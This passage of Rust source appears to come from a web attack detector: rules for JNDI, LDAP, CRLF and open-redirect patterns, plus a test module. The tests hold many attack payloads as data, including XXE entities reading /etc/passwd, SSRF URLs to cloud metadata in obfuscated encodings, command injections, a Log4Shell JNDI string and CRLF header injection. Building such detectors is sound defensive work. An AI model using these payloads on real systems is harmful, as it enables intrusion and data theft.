        "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http",
    ]
    .iter()
    .find(|p| proto.starts_with(*p))
    .map(|p| {
        (
            "jndi.lookup",
            format!("JNDI {p} lookup (resolved to {})", clip(&s)),
        )
    })
}

/// What a Log4j lookup evaluates to when it only hides a character.
fn resolve_lookup(inner: &str) -> String {
    if let Some(v) = inner
        .strip_prefix("lower:")
        .or_else(|| inner.strip_prefix("upper:"))
    {
        return v.to_owned();
    }
    if let Some(pos) = inner.find(":-") {
        return inner[pos + 2..].to_owned();
    }
    inner.to_owned()
}

fn ldapi(n: &str) -> Option<(&'static str, String)> {
    for pat in [
        "*)(",
        ")(|",
        ")(&",
        ")(!",
        "(|(",
        "(&(",
        "objectclass=*",
        "(cn=*",
        "(uid=*",
    ] {
        if n.contains(pat) {
            return Some(("ldapi.filter", format!("LDAP filter syntax {pat:?}")));
        }
    }
    None
}

fn crlf(n: &str) -> Option<(&'static str, String)> {
    let b = n.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        if c != b'\r' && c != b'\n' {
            continue;
        }
        let rest = n[i + 1..].trim_start_matches(['\r', '\n', ' ', '\t']);
        let name_len = rest
            .find(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '-'))
            .unwrap_or(rest.len());
        if name_len > 0 && rest[name_len..].starts_with(':') {
            let name = &rest[..name_len];
            return Some((
                "crlf.header_injection",
                format!("line break then header {name:?}"),
            ));
        }
    }
    if n.contains("\r\n\r\n") {
        return Some(("crlf.response_split", "blank line inside a value".into()));
    }
    None
}

const REDIRECT_KEYS: &[&str] = &[
    "redirect",
    "redirect_uri",
    "redirect_url",
    "redirecturl",
    "redirecturi",
    "return",
    "returnto",
    "return_to",
    "returnurl",
    "return_url",
    "next",
    "url",
    "continue",
    "dest",
    "destination",
    "goto",
    "target",
    "redir",
    "forward",
    "callback",
    "to",
    "out",
    "view",
    "checkout_url",
    "success_url",
    "image_url",
    "login_url",
    "logout",
];

fn open_redirect(n: &str, key: Option<&str>) -> Option<(&'static str, String)> {
    let v = n.trim_start_matches([' ', '\t', '\n', '\r', '<', '>', '"', '\'']);
    let protocol_relative = v.starts_with("//")
        || v.starts_with("/\\")
        || v.starts_with("\\\\")
        || v.starts_with("/\t/")
        || v.starts_with("\\/");
    if protocol_relative && v.len() > 3 {
        return Some((
            "redirect.protocol_relative",
            format!("protocol-relative target {}", clip(v)),
        ));
    }
    let absolute =
        v.starts_with("http:") || v.starts_with("https:") || v.starts_with("javascript:");
    if absolute && key.is_some_and(|k| REDIRECT_KEYS.iter().any(|r| r.eq_ignore_ascii_case(k))) {
        return Some((
            "redirect.absolute_url",
            format!("redirect parameter to {}", clip(v)),
        ));
    }
    None
}

fn clip(s: &str) -> String {
    let mut out: String = s.chars().take(80).collect();
    if out.len() < s.len() {
        out.push('…');
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::attack::{Family, detect};

    fn families(v: &str, key: Option<&str>) -> Vec<Family> {
        detect(v, key).into_iter().map(|h| h.family).collect()
    }

    #[test]
    fn doctypes_and_entities_are_read_as_a_parser_reads_them() {
        for (v, rule) in [
            (
                "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\"><foo/>",
                "xxe.external_dtd",
            ),
            (
                "<!DOCTYPE foo PUBLIC \"-//x\" \"http://e/x.dtd\">",
                "xxe.external_dtd",
            ),
            (
                "<!DOCTYPE\nfoo\n[\n<!ENTITY\nx\nSYSTEM\n\"file:///etc/passwd\">]>",
                "xxe.external_entity",
            ),
            (
                "<!DOCTYPE\tfoo [<!ENTITY\tx\tPUBLIC\t\"a\" \"b\">]>",
                "xxe.external_entity",
            ),
            (
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://e/x\">%p;]>",
                "xxe.external_entity",
            ),
            (
                "<!DOCTYPE x [<!ENTITY % p \"<!ENTITY y 'z'>\">%p;]>",
                "xxe.parameter_entity",
            ),
            (
                "<!DOCTYPE l [<!ENTITY a \"a\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>",
                "xxe.entity_declaration",
            ),
        ] {
            let hits = detect(v, None);
            let got: Vec<&str> = hits
                .iter()
                .filter(|h| h.family == Family::Xxe)
                .map(|h| h.rule)
                .collect();
            assert_eq!(got, [rule], "{v:?}");
        }
        for v in ["<!DOCTYPE html><html></html>", "the system entity"] {
            assert!(!families(v, None).contains(&Family::Xxe), "{v:?}");
        }
    }

    #[test]
    fn urls_are_read_as_browsers_read_them() {
        for v in [
            "http://%31%32%37.0.0.1/admin",
            "http://①②⑦.⓪.⓪.①/",
            "http:\\\\127.0.0.1\\admin",
            "https://0x7f.1/",
            "http://[::ffff:169.254.169.254]/latest/meta-data/",
        ] {
            assert!(families(v, None).contains(&Family::Ssrf), "{v:?}");
        }
        for v in [
            "http://example.com/%31%32%37.0.0.1",
            "see http://docs.rs/url",
        ] {
            assert!(!families(v, None).contains(&Family::Ssrf), "{v:?}");
        }
        // The WHATWG reading alone, without the lax one.
        assert!(super::whatwg_internal("http:\\\\%31%32%37.0.0.1\\x").is_some());
    }

    #[test]
    fn a_plain_authority_is_the_host_a_whatwg_parser_gives() {
        for after in [
            "//api.example.com/v1/users",
            "//shop.example.org:8443?q=1",
            "//a-b.c9.io#top",
        ] {
            assert!(super::plain_authority(after), "{after}");
            let url = url::Url::parse(&format!("https:{after}")).expect("parses");
            let literal = after[2..].split(['/', '?', '#', ':']).next();
            assert_eq!(url.host_str(), literal, "{after}");
        }
        for after in [
            "//2130706433/",
            "//0x7f.1/",
            "//127.0.0.1/",
            "//Example.com/",
            "//user@host.com/",
            "//xn--nxasmq6b.com/",
            "//host.com./",
            "/\\host.com/",
            "//ho%73t.com/",
        ] {
            assert!(!super::plain_authority(after), "{after} needs the parser");
        }
    }

    #[test]
    fn every_way_of_writing_an_internal_address_is_ssrf() {
        let (ip, n) = ([169u32, 254, 169, 254], 0xa9fe_a9fe_u32);
        let dotted = |f: &dyn Fn(u32) -> String| ip.map(f).join(".");
        let forms = [
            dotted(&|o| o.to_string()),
            n.to_string(),
            format!("{n:#x}"),
            format!("0{n:o}"),
            dotted(&|o| format!("{o:#04x}")),
            dotted(&|o| format!("0{o:o}")),
            format!("169.{}", n & 0xff_ffff),
            format!("169.254.{}", n & 0xffff),
            format!("[::ffff:{:x}:{:x}]", n >> 16, n & 0xffff),
            "[::ffff:169.254.169.254]".into(),
            "169.254.169.254.nip.io".into(),
            "00169.254.169.254".into(), // decimal to lax parsers, octal to WHATWG
            "425.254.169.254".into(),   // 169 + 256, wrapped by lax parsers
            "\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}".into(), // 127.0.0.1 enclosed
            "intranet.localdomain".into(),
        ];
        for host in forms {
            let url = format!("http://{host}/latest/meta-data/");
            assert!(families(&url, None).contains(&Family::Ssrf), "{url}");
        }
        for public in [
            "http://87.0.0.1/",
            "http://300.1.2.3/",
            "http://example.com/",
        ] {
            assert!(!families(public, None).contains(&Family::Ssrf), "{public}");
        }
    }

    #[test]
    fn xml_injection_beyond_entities_is_xxe_and_plain_xml_is_not() {
        for attack in [
            "<xsl:stylesheet version=\"2.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:value-of select=\"unparsed-text('/etc/hosts')\"/></xsl:template></xsl:stylesheet>",
            "<a><![CDATA[<]]>img src=x onerror=confirm(1)<![CDATA[>]]></a>",
            "<note><body>&ext1;</body></note>",
            "nobody' or count(/users/user)>0 or 'a'='b",
            "<xml id=\"d\" src=\"//evil.test/d.xml\"></xml>",
            "<html xmlns:b><?import namespace=\"b\" implementation=\"//evil.test/b.htc\"><b:b/></html>",
            "<methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://10.0.0.1/</string></value></param></params></methodCall>",
        ] {
            assert!(families(attack, None).contains(&Family::Xxe), "{attack}");
        }
        for benign in [
            "<p>Fish &amp; chips &copy; 2024</p>",
            "Tom & Jerry; a classic",
            "<order><id>1</id><item>book</item></order>",
            "<soap:Envelope><soap:Body><getPrice><sku>A-1</sku></getPrice></soap:Body></soap:Envelope>",
            "and or name() is fine",
        ] {
            assert!(!families(benign, None).contains(&Family::Xxe), "{benign}");
        }
    }

    #[test]
    fn each_family_on_a_typical_payload() {
        assert_eq!(
            families("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", None),
            vec![Family::PathTraversal]
        );
        assert_eq!(families("/etc/shadow", None), vec![Family::PathTraversal]);
        assert!(families("127.0.0.1; cat /etc/passwd", None).contains(&Family::Cmdi));
        assert!(families("x | whoami", None).contains(&Family::Cmdi));
        assert!(families("$(id)", None).contains(&Family::Cmdi));
        assert_eq!(
            families("http://0x7f000001/admin", None),
            vec![Family::Ssrf]
        );
        assert_eq!(
            families("http://169.254.169.254/latest/meta-data/", None),
            vec![Family::Ssrf]
        );
        assert_eq!(
            families("http://[::ffff:127.0.0.1]/", None),
            vec![Family::Ssrf]
        );
        assert_eq!(families("gopher://evil:70/_x", None), vec![Family::Ssrf]);
        assert!(
            families(
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                None
            )
            .contains(&Family::Xxe)
        );
        assert_eq!(families("user[$ne]=1", None), vec![Family::Nosqli]);
        assert_eq!(families("{{7*7}}", None), vec![Family::Ssti]);
        assert_eq!(
            families("${${lower:j}ndi:ldap://x/a}", None),
            vec![Family::Jndi]
        );
        assert_eq!(families("*)(uid=*))(|(uid=*", None), vec![Family::Ldapi]);
        assert_eq!(families("/%0d%0aSet-Cookie:x=1", None), vec![Family::Crlf]);
        assert_eq!(
            families("https://evil.example", Some("returnTo")),
            vec![Family::OpenRedirect]
        );
        assert_eq!(families("//evil.example", None), vec![Family::OpenRedirect]);
    }

    #[test]
    fn odd_input_never_panics() {
        // Found by the `attack` fuzz target: a multi-byte character right before `://`.
        for v in [
            "é://x",
            "ü://127.0.0.1/",
            "%",
            "${",
            "{{",
            "<",
            "..",
            "$(",
            "\u{0}",
            "&#",
            "0x",
        ] {
            let _ = detect(v, None);
            let _ = detect(v, Some("redirect"));
        }
    }

    #[test]
    fn ordinary_values_are_quiet() {
        for v in [
            "Smith & Jones",
            "R&D dept",
            "recomendaci$n",
            "https://example.com/a?b=c",
            "2024-01-01",
            "a/b/c",
            "C:/Users/me",
            "price: $20",
            "{\"a\": 1}",
            "50% off",
            "10.0.0.1",
        ] {
            assert!(detect(v, None).is_empty(), "{v}: {:?}", detect(v, None));
        }
        assert!(detect("https://example.com", Some("homepage")).is_empty());
    }
}
